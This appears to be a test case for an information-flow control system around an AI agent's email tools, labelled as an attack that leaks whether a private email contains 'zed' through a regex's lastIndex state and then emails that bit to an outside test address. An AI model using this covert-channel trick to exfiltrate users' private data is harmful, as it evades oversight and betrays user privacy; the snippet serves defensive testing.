// attack: advance a global regex's lastIndex only inside a labeled branch, probe it afterwards
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const re = /z/g;
if (m.body.includes('zed')) {
  re.test('z');
}
const probe = re.test('z');
await sendEmail({ to: ['omar@northwind.test'], subject: 'probe', body: String(probe) });
